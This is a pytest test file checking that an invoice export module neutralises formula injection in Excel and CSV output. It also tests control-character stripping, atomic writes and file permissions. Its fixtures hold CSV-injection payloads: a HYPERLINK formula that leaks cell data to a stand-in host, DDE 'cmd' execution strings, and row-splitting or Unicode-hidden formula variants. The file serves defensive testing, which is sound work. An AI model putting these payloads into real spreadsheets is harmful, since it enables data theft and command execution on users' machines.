"""The one Excel/CSV writer: no formula from data, text a workbook can hold, atomic files."""

from __future__ import annotations

import os
import warnings

import pandas as pd
import pytest

openpyxl = pytest.importorskip("openpyxl")

from invoice_analytics.errors import ExportWarning  # noqa: E402
from invoice_analytics.export import EXCEL_CELL_LIMIT, excel_ready, write_csv, write_excel  # noqa: E402
from tests.support.frames import frame  # noqa: E402

EVIL = '=HYPERLINK("http://evil.example/?leak="&B3,"Invoice")'


def poisoned() -> pd.DataFrame:
    return frame(
        {"customer_name": EVIL, "invoice_id": "=1+1", "outstanding": 5_000},
        {"customer_name": "+62 812", "invoice_id": "@SUM(A1)", "outstanding": -10},
        {"customer_name": "-minus", "invoice_id": "\tTab", "outstanding": 0},
    )


def cells(path, sheet=None):
    book = openpyxl.load_workbook(path)
    ws = book[sheet] if sheet else book.worksheets[0]
    return [cell for row in ws.iter_rows() for cell in row]


def test_no_workbook_cell_is_a_formula_built_from_data(tmp_path):
    path = write_excel({"Invoices": poisoned(), "Report": poisoned().set_index("invoice_id")}, tmp_path / "book.xlsx")
    for sheet in ("Invoices", "Report"):
        found = cells(path, sheet)
        assert not [c.coordinate for c in found if c.data_type == "f"]
        values = {c.value for c in found}
        assert EVIL in values and "=1+1" in values and "@SUM(A1)" in values  # kept, as text
    rupiah = [c for c in cells(path, "Invoices") if c.value == 5_000]
    assert rupiah and rupiah[0].data_type == "n"  # numbers stay numbers


def test_control_characters_are_removed_with_a_warning_not_a_traceback(tmp_path):
    df = frame({"customer_name": "PT\x00 Untung\x1b Jaya\tTbk\nBaris"})
    with pytest.warns(ExportWarning, match="control characters"):
        path = write_excel({"Invoices": df}, tmp_path / "book.xlsx")
    assert "PT Untung Jaya\tTbk\nBaris" in {c.value for c in cells(path)}


def test_text_longer_than_a_cell_is_cut_with_a_warning(tmp_path):
    df = frame({"customer_name": "x" * (EXCEL_CELL_LIMIT + 10)})
    with pytest.warns(ExportWarning, match="longer than an Excel cell"):
        path = write_excel({"Invoices": df}, tmp_path / "book.xlsx")
    assert max(len(str(c.value)) for c in cells(path)) == EXCEL_CELL_LIMIT


def test_clean_text_gives_no_warning(tmp_path):
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        write_excel({"Invoices": frame({"customer_name": "PT Maju"})}, tmp_path / "book.xlsx")


def test_a_failed_export_leaves_no_partial_file(tmp_path):
    target = tmp_path / "book.xlsx"
    target.write_bytes(b"the previous workbook")
    with pytest.raises(ValueError):  # openpyxl refuses a sheet title with '/'
        write_excel({"ok": frame({}), "bad/title": frame({})}, target)
    assert target.read_bytes() == b"the previous workbook"
    assert [p.name for p in tmp_path.iterdir()] == ["book.xlsx"]  # no temporary file left


def test_csv_neutralises_formula_starts_by_default(tmp_path):
    path = write_csv(poisoned(), tmp_path / "out.csv")
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert back["customer_name"].tolist() == ["'" + EVIL, "'+62 812", "'-minus"]
    assert back["invoice_id"].tolist() == ["'=1+1", "'@SUM(A1)", "'\tTab"]
    assert back["outstanding"].tolist() == ["5000", "-10", "0"]  # numbers untouched


def test_csv_raw_for_programs(tmp_path):
    path = write_csv(poisoned(), tmp_path / "out.csv", neutralize_formulas=False)
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert back["customer_name"].tolist() == [EVIL, "+62 812", "-minus"]


def test_csv_index_is_neutralised_too(tmp_path):
    report = pd.DataFrame({"Total": [1]}, index=pd.Index(["=cmd|' /C calc'!A0"], name="customer_name"))
    back = pd.read_csv(write_csv(report, tmp_path / "r.csv"), dtype=str)
    assert back["customer_name"].tolist() == ["'=cmd|' /C calc'!A0"]


# --- hostile input, second round (issue 17) -------------------------------------------------

#: Names that split a row or hide a formula behind characters a spreadsheet skips.
#: A bare CR started a new row on main, past the neutralising.
SPLITTING = ["Ani\r=cmd|' /C calc'!A0", "Budi\r@SUM(1+1)*cmd|' /C calc'!A0", "Citra,\r\n\"=1+1"]
HIDDEN = [
    "\n=1+1", "\x00=1+1", " =1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)", "\u2066\u200d @SUM(A1)",
]


def hostile_names() -> pd.DataFrame:
    return frame(*({"customer_name": name, "invoice_id": f"INV-{i}", "outstanding": i}
                   for i, name in enumerate(SPLITTING + HIDDEN)))


def test_csv_quotes_cr_lf_and_separators_so_no_row_splits(tmp_path):
    import csv

    df = hostile_names()
    path = write_csv(df, tmp_path / "out.csv")
    with path.open(newline="") as handle:
        rows = list(csv.reader(handle))
    assert len(rows) == len(df) + 1  # the header and one row per invoice, none split
    names = [row[rows[0].index("customer_name")] for row in rows[1:]]
    assert names == SPLITTING + ["'" + n for n in HIDDEN]  # each kept whole; hidden formulas neutralised


def test_csv_raw_values_are_still_quoted(tmp_path):
    import csv

    path = write_csv(hostile_names(), tmp_path / "raw.csv", neutralize_formulas=False)
    with path.open(newline="") as handle:
        rows = list(csv.reader(handle))
    assert [row[rows[0].index("customer_name")] for row in rows[1:]] == SPLITTING + HIDDEN


@pytest.mark.parametrize("name", HIDDEN)
def test_neutralize_formula_sees_past_ignorable_characters(name):
    from invoice_analytics.export import neutralize_formula

    assert neutralize_formula(name) == "'" + name


@pytest.mark.parametrize("name", ["PT Maju", " PT Maju", "\u200bAni", "Rp 5-10", "a=b", ""])
def test_neutralize_formula_leaves_plain_text(name):
    from invoice_analytics.export import neutralize_formula

    assert neutralize_formula(name) == name


def _libreoffice_cells(csv_path, out_dir):
    import subprocess

    # Token 13 ("evaluate formulas") on: what a spreadsheet user gets; UTF-8 (76), quoted fields as text off.
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{out_dir}/profile",
                    "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true",
                    "--convert-to", "xlsx", "--outdir", str(out_dir), str(csv_path)],
                   check=True, capture_output=True, timeout=300)
    sheet = openpyxl.load_workbook(out_dir / (csv_path.stem + ".xlsx")).active
    return [list(row) for row in sheet.iter_rows()]


@pytest.mark.skipif(__import__("shutil").which("soffice") is None,
                    reason="LibreOffice (soffice) is not installed: apt-get install libreoffice-calc-nogui")
def test_libreoffice_reads_no_formula_and_no_split_row(tmp_path):
    df = hostile_names()
    rows = _libreoffice_cells(write_csv(df, tmp_path / "safe.csv"), tmp_path)
    assert len(rows) == len(df) + 1
    assert not [c.coordinate for row in rows for c in row if c.data_type == "f"]
    header = [c.value for c in rows[0]]
    ids = [row[header.index("invoice_id")].value for row in rows[1:]]
    assert ids == [f"INV-{i}" for i in range(len(df))]  # every row whole, in order
    names = [row[header.index("customer_name")].value for row in rows[1:]]
    assert all(n.startswith("'") for n in names[len(SPLITTING):])
    # the same check finds the formula in the file written raw: it can fail
    raw = _libreoffice_cells(write_csv(frame({"customer_name": "=1+1"}), tmp_path / "raw.csv",
                                       neutralize_formulas=False), tmp_path)
    assert [c.data_type for c in raw[1] if c.value == "=1+1"] == ["f"]


def test_exports_follow_the_umask(tmp_path):

    old = os.umask(0o022)
    try:
        csv_path = write_csv(frame({"customer_name": "Ani"}), tmp_path / "a.csv")
        book = write_excel({"Invoices": frame({"customer_name": "Ani"})}, tmp_path / "a.xlsx")
        os.umask(0o027)
        strict = write_csv(frame({"customer_name": "Ani"}), tmp_path / "b.csv")
    finally:
        os.umask(old)
    assert csv_path.stat().st_mode & 0o777 == 0o644
    assert book.stat().st_mode & 0o777 == 0o644
    assert strict.stat().st_mode & 0o777 == 0o640


def test_excel_ready_writes_aware_datetimes_as_jakarta_wall_time():
    df = pd.DataFrame({"issued_at": pd.to_datetime(["2024-01-01 01:00"], utc=True)})
    assert excel_ready(df, index=False)["issued_at"].tolist() == [pd.Timestamp("2024-01-01 08:00:00")]


# docsc (issue 18): the cases the docstring examples showed beside their one example.


def test_excel_header_and_values_as_given(tmp_path):
    report = pd.DataFrame({"open_count": [2], "Total": [350_000], "paid_ratio": pd.array([0.5], dtype="Float64")},
                          index=pd.Index(["Ani"], name="customer_name"))
    sheet = openpyxl.load_workbook(write_excel({"Aging": report}, tmp_path / "out" / "aging.xlsx"))["Aging"]
    assert [cell.value for cell in sheet[1]] == ["customer_name", "open_count", "Total", "paid_ratio"]
    assert [cell.value for cell in sheet[2]] == ["Ani", 2, 350000, 0.5]


def test_csv_writes_integers_jakarta_offsets_and_empty_missing(tmp_path):
    df = pd.DataFrame({"invoice_id": ["A1", "A2"], "outstanding": pd.array([5_000, None], dtype="Int64"),
                       "issued_at": pd.to_datetime(["2024-01-31 23:30", None]).tz_localize("Asia/Jakarta")})
    assert write_csv(df, tmp_path / "invoices.csv").read_bytes() == (
        b"invoice_id,outstanding,issued_at\r\nA1,5000,2024-01-31 23:30:00+07:00\r\nA2,,\r\n")


def test_neutralize_formula_docstring_cases():
    from invoice_analytics.export import neutralize_formula

    assert neutralize_formula('=HYPERLINK("http://evil.example")') == '\'=HYPERLINK("http://evil.example")'
    assert neutralize_formula("\u200b =1+1") == "'\u200b =1+1"
    assert neutralize_formula("\uff20SUM(A1)")[0] == "'"
